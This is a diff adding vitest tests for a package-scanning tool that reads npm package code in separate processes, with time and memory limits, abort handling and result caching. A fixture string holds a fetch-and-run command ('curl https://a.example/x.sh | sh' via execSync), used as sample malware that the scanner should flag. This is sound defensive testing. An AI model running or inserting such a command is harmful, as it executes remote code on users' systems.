@@ -1,0 +1,133 @@
+/** Packages read in processes: as in this one, once ever, and sure to end. */
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, test } from 'vitest';
+import { type Kept, keptIn } from '../src/check/kept.ts';
+import { READ_LIMITS, type ReadLimits, readInProcesses } from '../src/check/processes.ts';
+import { readHere } from '../src/check/reader.ts';
+import { loadRules, ruleSetId } from '../src/load-rules.ts';
+import type { PackageStore, TreeNode } from '../src/types.ts';
+import { unpack } from '../src/unpack.ts';
+import { makeTarball } from './registry/tarball.ts';
+
+const cache = mkdtempSync(join(tmpdir(), 'reading-'));
+afterAll(() => rmSync(cache, { recursive: true }));
+
+const NODE: TreeNode = {
+  id: 'x@1.0.0',
+  name: 'x',
+  version: '1.0.0',
+  integrity: 'sha512-AA==',
+  location: 'node_modules/x',
+  via: ['x@1.0.0'],
+  dependencies: {},
+  foreign: false,
+  bundled: false,
+};
+const MANIFEST = { 'package.json': '{"name":"x","version":"1.0.0","main":"index.js"}' };
+const THIEF = "const { execSync } = require('node:child_process'); execSync('curl https://a.example/x.sh | sh');";
+/** Some seconds of work for the parser. */
+const DENSE = `process.env.X;x=[${'[a,b],{c:1},'.repeat(500_000)}]`;
+
+const NOTHING_KEPT: Kept = { get: async () => undefined, put: async () => {} };
+
+/** A store of one tarball, which counts how often it is asked. */
+async function storeOf(files: Readonly<Record<string, string>>): Promise<PackageStore & { asked: number }> {
+  const bytes = await makeTarball({ ...MANIFEST, ...files });
+  const store = {
+    asked: 0,
+    open: (node: TreeNode) => unpack(node, bytes),
+    tarball: async () => {
+      store.asked++;
+      return { value: bytes, gaps: [] };
+    },
+  };
+  return store;
+}
+
+async function read(files: Readonly<Record<string, string>>, limits?: Partial<ReadLimits>, kept = NOTHING_KEPT) {
+  const reader = readInProcesses({
+    kept,
+    signal: new AbortController().signal,
+    processes: 1,
+    limits: { ...READ_LIMITS, ...limits },
+  });
+  return reader(NODE, true, await storeOf(files));
+}
+
+const gaps = (reason: string, subject = 'x@1.0.0/dense.js') => [{ stage: 'code', subject, reason }];
+
+describe('reading in processes', () => {
+  test('gives what reading here gives', async () => {
+    const files = { 'index.js': THIEF, 'broken.js': 'process.env.X }{' };
+    const here = await readHere(await loadRules())(NODE, true, await storeOf(files));
+    expect(here.value.length).toBeGreaterThan(0);
+    expect(await read(files)).toEqual(here);
+  });
+
+  test('a file that takes too long is left out, told, and hides no other', async () => {
+    const found = await read({ 'dense.js': DENSE, 'index.js': THIEF }, { step: 600 });
+    expect(found.gaps).toEqual(gaps('it was not read within 0.6 s'));
+    expect(found.value.map(({ rule }) => rule)).toContain('downloads-and-runs');
+  }, 60_000);
+
+  test('so is one that takes too much memory', async () => {
+    const found = await read({ 'dense.js': DENSE, 'index.js': THIEF }, { memory: 200 });
+    expect(found.gaps).toEqual(gaps('the process that read it ended, as for want of memory (200 MB)'));
+    expect(found.value.map(({ rule }) => rule)).toContain('downloads-and-runs');
+  }, 60_000);
+
+  test('a package of many such files is given up', async () => {
+    const files = Object.fromEntries(Array.from({ length: 3 }, (_, i) => [`${i}.js`, DENSE]));
+    const found = await read(files, { step: 600, unread: 1 });
+    expect(found).toEqual({ value: [], gaps: gaps('its code was not read: it was not read within 0.6 s', 'x@1.0.0') });
+  }, 60_000);
+
+  test('ends when the user ends it, without waiting for a process', async () => {
+    const controller = new AbortController();
+    const reader = readInProcesses({ kept: NOTHING_KEPT, signal: controller.signal, processes: 1 });
+    const reading = reader(NODE, true, await storeOf({ 'index.js': DENSE }));
+    setTimeout(() => controller.abort(new Error('enough')), 300);
+    await expect(reading).rejects.toThrow('enough');
+  });
+});
+
+describe('what was read', () => {
+  const kept = (ruleSet: string) => keptIn(cache, ruleSet);
+  const reading = async (store: PackageStore, keep: Kept, node = NODE, root = true) =>
+    readInProcesses({ kept: keep, signal: new AbortController().signal, processes: 1 })(node, root, store);
+
+  test('is not read again, unless by other rules, in another role or under another name', async () => {
+    const store = await storeOf({ 'index.js': THIEF });
+    const first = await reading(store, kept('a'));
+    expect(await reading(store, kept('a'))).toEqual(first);
+    expect(store.asked).toBe(1);
+    await reading(store, kept('b'));
+    await reading(store, kept('a'), NODE, false);
+    await reading(store, kept('a'), { ...NODE, id: 'y@1.0.0' });
+    expect(store.asked).toBe(4);
+  });
+
+  test.each(['', 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk='])(
+    'is read again where nobody vouches for its bytes (%j)',
+    async (integrity) => {
+      const store = await storeOf({});
+      for (const _ of [1, 2]) await reading(store, kept('weak'), { ...NODE, integrity });
+      expect(store.asked).toBe(2);
+    },
+  );
+
+  test('is not kept where something was left out', async () => {
+    const keep = kept('late');
+    await read({ 'dense.js': DENSE }, { step: 600 }, keep);
+    expect(await keep.get(NODE, true)).toBeUndefined();
+  }, 60_000);
+
+  test('is known by an identity that changes with the rules', async () => {
+    const id = await ruleSetId();
+    expect(id).toMatch(/^[0-9a-f]{16}$/);
+    expect(await ruleSetId()).toBe(id);
+    expect(await ruleSetId(new URL('./support/', import.meta.url))).not.toBe(id);
+  });
+});
